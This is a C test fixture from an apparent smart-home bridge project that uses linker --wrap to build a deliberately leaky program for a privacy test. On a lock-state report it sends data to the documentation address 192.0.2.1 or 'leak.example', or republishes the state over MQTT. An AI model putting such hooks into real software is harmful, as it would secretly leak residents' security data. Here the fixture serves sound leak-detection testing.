/* SPDX-License-Identifier: MIT
 *
 * What tests/broker/privacy_proof.c must notice. Linked with the whole program, this makes one
 * that leaks: at the first report of the lock it does what EARSHOT_LEAK says. The linker puts
 * these functions in the place of ours (--wrap), so the program itself holds none of it.
 */
#define _DEFAULT_SOURCE /* SOCK_CLOEXEC */
#include <arpa/inet.h>
#include <netdb.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "bridge/base/text.h"
#include "bridge/home/device_states.h"
#include "bridge/mqtt/connection.h"

void __real_connection_start(struct connection *connection);
void __wrap_connection_start(struct connection *connection);
void __real_device_states_take(struct device_states *states, const char *topic,
	const void *payload, size_t length, bool retained, device_report_fn *report, void *data);
void __wrap_device_states_take(struct device_states *states, const char *topic,
	const void *payload, size_t length, bool retained, device_report_fn *report, void *data);

static struct connection *the_connection;

void __wrap_connection_start(struct connection *connection)
{
	the_connection = connection;
	__real_connection_start(connection);
}

/* An address of documentation (RFC 5737): nobody has it. */
static void call_home(int type, int port, const char *words)
{
	struct sockaddr_in elsewhere = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
	int descriptor = socket(AF_INET, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	inet_pton(AF_INET, "192.0.2.1", &elsewhere.sin_addr);
	if (type == SOCK_STREAM) {
		(void)!connect(descriptor, (struct sockaddr *)&elsewhere, sizeof(elsewhere));
	} else {
		sendto(descriptor, words, strlen(words), 0, (struct sockaddr *)&elsewhere,
			sizeof(elsewhere));
	}
	close(descriptor);
}

static void leak(const char *how, const char *state)
{
	struct addrinfo *found = NULL;
	if (strcmp(how, "connect") == 0) {
		call_home(SOCK_STREAM, 443, "");
	} else if (strcmp(how, "datagram") == 0) {
		call_home(SOCK_DGRAM, 53, "front door unlocked");
	} else if (strcmp(how, "name") == 0 && getaddrinfo("leak.example", NULL, NULL, &found) == 0) {
		freeaddrinfo(found);
	} else if (strcmp(how, "state") == 0) {
		connection_tell(the_connection, "earshot/test/event", state);
	}
}

void __wrap_device_states_take(struct device_states *states, const char *topic,
	const void *payload, size_t length, bool retained, device_report_fn *report, void *data)
{
	static bool leaked;
	const char *how = getenv("EARSHOT_LEAK");
	char *state = text_copy_part(payload, length);
	if (how != NULL && !leaked && state != NULL && strstr(state, "lock_state") != NULL) {
		leaked = true;
		leak(how, state);
	}
	free(state);
	__real_device_states_take(states, topic, payload, length, retained, report, data);
}
